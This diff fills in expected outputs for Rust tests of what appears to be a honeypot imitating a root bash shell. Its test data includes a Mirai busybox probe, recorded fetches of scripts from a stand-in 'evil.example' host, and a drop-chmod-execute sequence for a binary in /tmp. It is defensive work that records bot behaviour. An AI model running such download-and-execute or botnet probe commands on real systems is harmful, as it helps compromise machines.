@@ -52,7 +52,23 @@ fn writes_persist_within_the_session() {
         ./c
         chmod +x c; ls x
         "#,
-        expect![[""]],
+        expect![[r#"
+            root@web-01:~# cd /tmp
+            root@web-01:/tmp# echo hello > a; cat a
+            hello
+            root@web-01:/tmp# echo -ne "\x7f\x45" >> a && wc -c a
+            8 a
+            root@web-01:/tmp# mkdir -p x/y && cp a x/y/b && ls x/y
+            b
+            root@web-01:/tmp# mv x/y/b c; rm -r x; ls
+            a  c
+            root@web-01:/tmp# cat nope
+            cat: nope: No such file or directory
+            root@web-01:/tmp# ./c
+            -bash: ./c: Permission denied
+            root@web-01:/tmp# chmod +x c; ls x
+            ls: cannot access 'x': No such file or directory
+        "#]],
     );
 }
 
@@ -78,7 +94,40 @@ fn bash_parses_what_bots_send() {
         while read x; do echo "got $x"; done < /etc/hostname
         f() { echo "in $1"; }; f arg
         "#,
-        expect![[""]],
+        expect![[r#"
+            root@web-01:~# for i in 1 2 3; do echo -n $i; done; echo
+            123
+            root@web-01:~# A="x y"; echo "$A" '$A' ${A:-z} ${B:-z} $((2+3*4)) $(echo sub `echo nested`)
+            x y $A x y z 14 sub nested
+            root@web-01:~# if [ -d /tmp ]; then echo dir; else echo none; fi
+            dir
+            root@web-01:~# foo || echo failed with $?
+            -bash: foo: command not found
+            failed with 127
+            root@web-01:~# /bin/busybox MIRAI
+            -bash: /bin/busybox: No such file or directory
+            root@web-01:~# cat /proc/mounts | grep -c tmpfs; echo {a,b}{1..2}
+            4
+            a1 a2 b1 b2
+            root@web-01:~# echo foo |
+            > tr a-z A-Z
+            FOO
+            root@web-01:~# cat <<EOF > /tmp/here
+            > some $HOME text
+            > EOF
+            root@web-01:~# cat /tmp/here
+            some /root text
+            root@web-01:~# echo "a
+            > b"
+            a
+            b
+            root@web-01:~# echo )
+            -bash: syntax error near unexpected token `)'
+            root@web-01:~# while read x; do echo "got $x"; done < /etc/hostname
+            got web-01
+            root@web-01:~# f() { echo "in $1"; }; f arg
+            in arg
+        "#]],
     );
 }
 
@@ -143,7 +192,12 @@ fn nothing_goes_out_and_attempts_are_recorded() {
             _ => None,
         })
         .collect();
-    expect![[""]].assert_eq(&requests.join("\n"));
+    expect![[r#"
+        GET http://evil.example/x.sh
+        GET http://192.0.2.1/y
+        ping example.org
+        CONNECT 192.0.2.1:80"#]]
+    .assert_eq(&requests.join("\n"));
 }
 
 #[test]
@@ -154,7 +208,7 @@ fn written_files_are_uploads() {
         shell.exec(START, "cat > /tmp/m; chmod 777 /tmp/m; /tmp/m", b"\x7fELF123", &mut out);
     assert_eq!(status, 0);
     let facts = shell.take_facts();
-    expect![[""]].assert_eq(&format!("{facts:?}"));
+    expect![[r#"[Upload { name: "/tmp/m", sha256: "0a7a87c9d3fca2adcf84a4f36efdc890e92cbdcfd3632d857eda8788213ba673", bytes: 7 }]"#]].assert_eq(&format!("{facts:?}"));
 }
 
 #[test]
